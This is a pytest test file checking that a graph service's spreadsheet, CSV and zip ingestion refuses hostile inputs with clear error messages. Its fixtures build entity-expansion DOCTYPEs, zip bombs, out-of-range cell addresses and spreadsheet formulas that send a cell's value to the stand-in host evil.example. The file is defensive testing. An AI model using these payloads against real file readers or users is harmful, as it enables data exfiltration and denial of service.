"""Files made to break a reader are refused with a sentence, in moments and without memory."""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import xlsxwriter

from graphsvc.errors import InputError, UnknownFormat, UnreadableFile
from graphsvc.ingest import guard
from graphsvc.ingest.confined_opening import open_here
from graphsvc.ingest.opening import open_file
from graphsvc.model import Actor

Make = Callable[[dict[str, list[list[Any]]]], Path]
ReadFile = Callable[[Path], Any]

SHEET = "xl/worksheets/sheet1.xml"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


@pytest.fixture
def with_sheet(workbook: Make, tmp_path: Path) -> Callable[..., Path]:
    """Return a workbook whose first sheet's XML is replaced (or another part added)."""

    def write(xml: str, part: str = SHEET) -> Path:
        whole = workbook({"Actors": [["name"], ["A"]]})
        path = tmp_path / "hostile.xlsx"
        with zipfile.ZipFile(whole) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
            for member in old.infolist():
                if member.filename != part:
                    new.writestr(member, old.read(member))
            new.writestr(part, xml)
        return path

    return write


def sheet(cells: str, before: str = "") -> str:
    return f'<?xml version="1.0"?>{before}<worksheet xmlns="{MAIN}"><sheetData>{cells}</sheetData></worksheet>'


@pytest.mark.parametrize(
    ("cells", "message"),
    [
        (
            '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
            "row 1,048,576",
        ),
        ('<row r="1"><c r="XFD1"><v>1</v></c></row>', "column 16,384"),
        ('<row r="1"><c r="zzz1"><v>1</v></c></row>', "column 18,278"),
        ('<row r="1"><c r="A0"><v>1</v></c></row>', "address 'A0'"),
        ('<row r="1"><c r=""><v>1</v></c></row>', "address ''"),
        ('<row r="0"><c><v>1</v></c></row>', "number '0'"),
        ('<row r="99999999999"><c><v>1</v></c></row>', "number '99999999999'"),
        ('<row r="300001"><c><v>1</v></c></row>', "row 300,001"),
        ('<row r="100000"><c r="CV100000"><v>1</v></c></row>', "area of 100,000 × 100"),
        ("<row>" + "<c><v>1</v></c>" * 301 + "</row>", "column 301"),
    ],
)
def test_far_cells(with_sheet: Callable[..., Path], cells: str, message: str) -> None:
    path = with_sheet(sheet(cells))
    assert path.stat().st_size < 10_000
    with pytest.raises(UnreadableFile, match=message) as caught:
        open_file(path)
    assert "hostile.xlsx" in caught.value.message
    assert caught.value.remedy


@pytest.mark.parametrize("part", [SHEET, "xl/sharedStrings.xml", "xl/styles.xml", "xl/workbook.xml"])
def test_a_document_type_is_refused_in_any_part(with_sheet: Callable[..., Path], part: str) -> None:
    laughs = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>'
    with pytest.raises(UnreadableFile, match="document type"):
        open_file(with_sheet(sheet("", laughs), part))


@pytest.mark.parametrize("announced", ["99999999999", "12000001", "-1", "x"])
def test_more_shared_strings_announced_than_can_be(with_sheet: Callable[..., Path], announced: str) -> None:
    path = with_sheet(f'<sst xmlns="{MAIN}" uniqueCount="{announced}"/>', "xl/sharedStrings.xml")
    with pytest.raises(UnreadableFile, match=f"{announced} shared strings announced"):
        open_file(path)


def test_a_thousandfold_compression_is_refused(with_sheet: Callable[..., Path]) -> None:
    path = with_sheet(sheet(f'<row r="1"><c r="A1" t="inlineStr"><is><t>{"x" * 5_000_000}</t></is></c></row>'))
    with pytest.raises(UnreadableFile, match=r"packed \d+ times"):
        open_file(path)


def test_more_than_the_unpacked_limit_is_refused(
    with_sheet: Callable[..., Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(guard, "MAX_UNPACKED_BYTES", 100_000)
    with pytest.raises(UnreadableFile, match="unpacks to more than"):
        open_here(with_sheet(sheet("<row/>" * 20_000)))


def test_more_elements_than_cells_are_refused(with_sheet: Callable[..., Path], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(guard, "MAX_CELLS", 1000)
    with pytest.raises(UnreadableFile, match="more than 4,000 elements"):
        open_here(with_sheet(sheet("<a/>" * 5000)))


def test_a_file_over_the_size_limit_is_refused(workbook: Make, monkeypatch: pytest.MonkeyPatch) -> None:
    path = workbook({"Actors": [["name"], ["A"]]})
    monkeypatch.setattr(guard, "MAX_WORKBOOK_BYTES", 1000)
    with pytest.raises(UnreadableFile, match="larger than"):
        open_here(path)


def test_a_file_at_the_limits_is_read(with_sheet: Callable[..., Path], read: ReadFile) -> None:
    text = "<row r='1'><c r='A1' t='inlineStr'><is><t>name</t></is></c></row>"
    far = f"<row r='{guard.MAX_ROWS}'><c r='A{guard.MAX_ROWS}' t='inlineStr'><is><t>last</t></is></c></row>"
    result = read(with_sheet(sheet(text + far)))
    assert [(row.record.row, row.record.values) for row in result.rows] == [(guard.MAX_ROWS, {"name": "last"})]


@pytest.mark.parametrize(
    ("name", "content", "error", "message"),
    [
        ("empty.xlsx", b"", UnreadableFile, "is empty"),
        ("empty.csv", b"", UnreadableFile, "is empty"),
        ("blank.csv", b"\r\n \r\n", UnreadableFile, "is empty"),
        ("empty.zip", b"", UnreadableFile, "is empty"),
        ("empty.bin", b"", UnreadableFile, "is empty"),
        ("text.xlsx", b"name;kind\nA;firm\n", UnreadableFile, "damaged, or not what its name says"),
        ("cut.zip", b"PK\x03\x04" + b"\x00" * 100, UnreadableFile, "damaged"),
        ("old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, UnreadableFile, "old workbook"),
        ("locked.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, UnreadableFile, "password"),
        ("cut.csv.gz", b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03\x4b", UnreadableFile, "damaged"),
        ("no.csv.gz", b"name\nA\n", UnreadableFile, "damaged"),
        ("image.csv", b"\x89PNG\r\n\x1a\n\x00\x81\x8d\xff\xfe", UnreadableFile, "not text"),
        ("words.csv", b"colour;size\nred;3\n", UnknownFormat, "colour, size"),
        ("graph.gexf", b"<gexf/>", UnreadableFile, "holds no node"),
        ("page.html", b"<!-- x --><html></html>", UnknownFormat, "is a web page"),
        ("notes.doc", b"Dear colleagues, graph", UnknownFormat, "No reader knows"),
    ],
)
def test_files_that_are_no_tables(
    tmp_path: Path, name: str, content: bytes, error: type[InputError], message: str
) -> None:
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(error, match=message) as caught:
        open_file(path)
    assert name in caught.value.message
    assert caught.value.remedy


def test_missing_file_and_empty_folder(tmp_path: Path) -> None:
    with pytest.raises(UnreadableFile, match="There is no file"):
        open_file(tmp_path / "gone.xlsx")
    with pytest.raises(UnreadableFile, match="holds no CSV file") as caught:
        open_file(tmp_path)
    assert "template" in caught.value.remedy


def test_zip_without_tables_and_zip_that_is_a_workbook(workbook: Make, tmp_path: Path) -> None:
    path = tmp_path / "photos.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("a.jpg", b"x")
    with pytest.raises(UnreadableFile, match="holds no CSV file"):
        open_file(path)
    renamed = workbook({"Actors": [["name"]]}).rename(tmp_path / "book.zip")
    with pytest.raises(UnknownFormat, match="is an Excel workbook"):
        open_file(renamed)
    path.rename(tmp_path / "photos.xlsx")
    with pytest.raises(UnreadableFile, match="not an Excel workbook"):
        open_file(tmp_path / "photos.xlsx")


def test_protected_member(tmp_path: Path) -> None:
    path = tmp_path / "locked.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("Actors.csv", "name\nA\n")
    data = bytearray(path.read_bytes())
    data[data.index(b"PK\x01\x02") + 8] |= 1  # the flag of encryption in the central directory
    path.write_bytes(data)
    with pytest.raises(UnreadableFile, match="protected with a password"):
        open_file(path)


def test_bytes_damaged_inside_a_zip(tmp_path: Path) -> None:
    path = tmp_path / "damaged.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("Actors.csv", "name\n" + "".join(f"Actor {number}\n" for number in range(5000)))
    data = bytearray(path.read_bytes())
    data[200:260] = b"\x55" * 60
    path.write_bytes(data)
    with pytest.raises(UnreadableFile, match="damaged"):
        list(open_file(path).rows())


def test_zip_of_csv_with_a_thousandfold_compression(tmp_path: Path) -> None:
    path = tmp_path / "bomb.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("Actors.csv", "name\n" + "A\n" * 2_000_000)
    with pytest.raises(UnreadableFile, match="packed"):
        open_file(path)


def test_formulas_are_never_evaluated(tmp_path: Path, read: ReadFile) -> None:
    path = tmp_path / "network.xlsx"
    with xlsxwriter.Workbook(str(path)) as book:
        tab = book.add_worksheet("Actors")
        tab.write_row(0, 0, ["name", "description"])
        tab.write_formula(1, 0, '=HYPERLINK("http://evil.example/?"&A1,"Tampere")', None, "Tampere")
        tab.write_formula(2, 0, '=WEBSERVICE("http://evil.example/")', None, "")
        tab.write_formula(3, 0, "=1/0", None, "#DIV/0!")
    result = read(path)
    assert "Tampere" in [actor.name for actor in result.claims(Actor)]
    assert not any("evil" in str(row.record.values) for row in result.rows)


def test_formulas_without_a_stored_value_are_named(with_sheet: Callable[..., Path], read: ReadFile) -> None:
    cells = "<row><c t='inlineStr'><is><t>name</t></is></c></row><row><c><f>1+1</f></c><c><f>2</f><v>2</v></c></row>"
    result = read(with_sheet(sheet(cells)))
    assert "1 cells hold a formula whose result is not stored" in result.problems[0].message
    assert "Open the workbook in Excel" in result.problems[0].remedy


@pytest.mark.parametrize(
    ("cells", "message"),
    [
        ('<row r="1"><c r="A1" t="s"><v>77</v></c></row>', "string index"),
        ('</sheetData><mergeCells><mergeCell ref="A0:A0"/></mergeCells><sheetData>', "Range"),
    ],
)
def test_what_the_engine_refuses_is_a_sentence(
    with_sheet: Callable[..., Path], cells: str, message: str, caplog: pytest.LogCaptureFixture
) -> None:
    wanted = "hostile.xlsx can't be read as a workbook \\(it is not built as a workbook\\)"
    with caplog.at_level("INFO", "graphsvc.ingest"), pytest.raises(UnreadableFile, match=wanted):
        list(open_file(with_sheet(sheet(cells))).rows())
    assert message in "".join(str(vars(record).get("reason")) for record in caplog.records)
